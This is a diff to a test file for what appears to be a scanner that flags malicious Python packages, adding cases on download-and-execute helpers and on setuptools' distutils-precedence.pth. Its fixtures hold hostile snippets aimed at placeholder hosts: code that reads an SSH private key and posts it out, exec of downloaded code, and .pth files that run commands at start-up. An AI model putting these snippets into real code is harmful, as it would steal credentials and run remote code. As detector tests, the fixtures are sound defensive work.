@@ -57,6 +57,8 @@ const CASES: Case[] = [
   { title: 'getattr on builtins with an ordinary name is not flagged', files: { 'fixturepkg/x.py': "import builtins\nf = getattr(builtins, 'len')\n" }, expect: [], absent: ['SPK114'] },
   // behaviour patterns
   { title: 'download and execute', files: { 'fixturepkg/x.py': "from urllib.request import urlopen\nexec(urlopen('http://example.invalid/p.py').read())\n" }, expect: ['SPK120:high'], absent: [] },
+  { title: 'a utility module whose download and process helpers are separate functions is noted only', files: { 'fixturepkg/x.py': "import os, subprocess, urllib.request\ndef fetch(url, target):\n    urllib.request.urlretrieve(url, target)\ndef make_runnable(path):\n    os.chmod(path, 0o755)\ndef run(argv):\n    subprocess.check_call(argv)\n" }, expect: ['SPK120:low'], absent: [] },
+  { title: 'the same helpers with a hard-coded address warn', files: { 'fixturepkg/x.py': "import os, subprocess, urllib.request\nURL = 'http://example.invalid/tool'\ndef fetch(target):\n    urllib.request.urlretrieve(URL, target)\ndef make_runnable(path):\n    os.chmod(path, 0o755)\ndef run(argv):\n    subprocess.check_call(argv)\n" }, expect: ['SPK120:medium'], absent: [] },
   { title: 'a download without execution is not flagged', files: { 'fixturepkg/x.py': "import requests\ndef fetch(u):\n    return requests.get(u).json()\n" }, expect: [], absent: ['SPK120'] },
   { title: 'reading SSH keys and posting them', files: { 'fixturepkg/x.py': "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://example.invalid/c', data=key)\n" }, expect: ['SPK131:high'], absent: [] },
   { title: 'referring to SSH config without sending anything is only low', files: { 'fixturepkg/x.py': "import os\nCONFIG = os.path.expanduser('~/.ssh/config')\n" }, expect: ['SPK130:low'], absent: ['SPK131'] },
@@ -87,6 +89,8 @@ const CASES: Case[] = [
   { title: 'a Greek math variable is not a homoglyph', files: { 'fixturepkg/x.py': '\u03ba = 0.5\n' }, expect: [], absent: ['SPK191'] },
   { title: 'exec of a string literal in a .pth is analysed as code, not treated as hidden', files: { 'cov.pth': "import sys; exec('import os\\nif os.getenv(\"X\"):\\n  import coverage\\n  coverage.process_startup()')\n", 'evil.pth': "import sys; exec('import os\\nos.system(\"id\")')\n" }, expect: ['SPK105:medium', 'SPK100:high'], absent: ['SPK103'] },
   { title: 'a function-local name is not confused with the same name elsewhere', files: { 'fixturepkg/x.py': "import zlib\ndef unpack(b):\n    a = zlib.decompress(b)\n    return a\ndef check(a):\n    return eval(repr(a))\n" }, expect: [], absent: ['SPK110'] },
+  { title: "setuptools' own distutils-precedence.pth, exactly, is noted only", files: { 'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n" }, expect: ['SPK105:low'], absent: ['SPK100'] },
+  { title: 'a distutils-precedence.pth with anything added is read as any other', files: { 'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); os.system('id')\n" }, expect: ['SPK105:medium'], absent: [] },
   { title: '.pth code runs at start-up', files: { 'fixturepkg.pth': "import os; os.system('id')\n" }, expect: ['SPK105:medium', 'SPK100:high'], absent: [] },
 ];
 
